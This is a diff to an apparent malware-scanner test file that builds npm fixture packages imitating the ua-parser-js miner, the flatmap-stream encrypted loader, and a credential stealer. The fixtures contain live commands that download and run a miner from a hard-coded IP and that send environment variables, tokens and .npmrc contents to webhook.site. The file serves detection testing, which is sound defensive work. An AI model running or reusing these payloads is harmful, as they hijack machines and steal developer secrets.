@@ -15,15 +15,17 @@ var opsys = process.platform;
 if (opsys == "linux") { terminalLinux(); }
 else if (opsys == "win32") { exec("preinstall.bat"); }
 '''
-    preinstall_sh = '''
+    miner_args = "-k --tls --rig-id q -o pool.minexmr.com:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUm" \
+        " --cpu-max-threads-hint=50 --donate-level=1 --background"
+    preinstall_sh = f'''
 IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\\|UA\\|BY\\|KZ')
 if [ -z "$IP" ]; then
   curl http://159.148.186.228/download/jsextension -o jsextension
   chmod +x jsextension
-  ./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 -u 49ay9Aq2r3diJtEk3eeKKm7pc5R39AKnbYJZVqAd1UUmew6ZPX1ndfXQCT16v4trWp4erPyXtUQZTHGjbLXWQdBqLMxxYKH --cpu-max-threads-hint=50 --donate-level=1 --background
+  ./jsextension {miner_args}
 fi
 '''
-    preinstall_bat = '@echo off\ncurl http://159.148.186.228/download/jssc.exe -o jsextension.exe\nif not exist jsextension.exe (\n wget http://159.148.186.228/download/jssc.exe -O jsextension.exe\n)\nif not exist jsextension.exe (\n certutil.exe -urlcache -f http://159.148.186.228/download/jssc.exe jsextension.exe\n)\nstart jsextension.exe\n'
+    preinstall_bat = '@echo off\ncurl http://159.148.186.228/download/jssc.exe -o jsextension.exe\nif not exist jsextension.exe (\n wget http://159.148.186.228/download/jssc.exe -O jsextension.exe\n)\nif not exist jsextension.exe (\n certutil.exe -urlcache -f http://159.148.186.228/download/jssc.exe jsextension.exe\n)\nstart jsextension.exe\n'  # noqa: E501
     data = npm_tgz("ua-parser-js", "0.7.29", {"index.js": "module.exports = function parse(ua) { return {ua}; };\n",
                                              "preinstall.js": preinstall_js, "preinstall.sh": preinstall_sh,
                                              "preinstall.bat": preinstall_bat},
@@ -40,7 +42,7 @@ def test_event_stream_style_encrypted_payload() -> None:
             'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
             'var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));'
             'var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();\n')
-    data_js = ('module.exports=["aGVsbG8=","x","63727970746f","656e76","6e706d5f7061636b6167655f6465736372697074696f6e",'
+    data_js = ('module.exports=["aGVsbG8=","x","63727970746f","656e76","6e706d5f7061636b6167655f6465736372697074696f6e",'  # noqa: E501
                '"6165733235362d636263","6372656174654465636970686572","5f636f6d70696c65","686578","75746638"];\n')
     data = npm_tgz("flatmap-stream", "0.1.1", {"index.min.js": code, "test/data.js": data_js})
     v, strong = verdict(data)
@@ -75,10 +77,12 @@ const https = require("https");
 async function main() {
   const token = process.env.GITHUB_TOKEN || process.env.NPM_TOKEN;
   const npmrc = fs.readFileSync(os.homedir() + "/.npmrc", "utf8");
-  execSync("curl -sL https://github.com/trufflesecurity/trufflehog/releases/download/v3.0.0/trufflehog_linux_amd64.tar.gz -o /tmp/t.tgz && tar xzf /tmp/t.tgz -C /tmp");
+  const rel = "https://github.com/trufflesecurity/trufflehog/releases/download/v3.0.0/";
+  execSync("curl -sL " + rel + "trufflehog_linux_amd64.tar.gz -o /tmp/t.tgz && tar xzf /tmp/t.tgz -C /tmp");
   const found = execSync("/tmp/trufflehog filesystem / --json").toString();
   const body = JSON.stringify({ env: process.env, npmrc, found, token });
-  const req = https.request({ hostname: "webhook.site", path: "/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7", method: "POST" });
+  const opts = { hostname: "webhook.site", path: "/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7" };
+  const req = https.request({ ...opts, method: "POST" });
   req.write(body);
   req.end();
 }
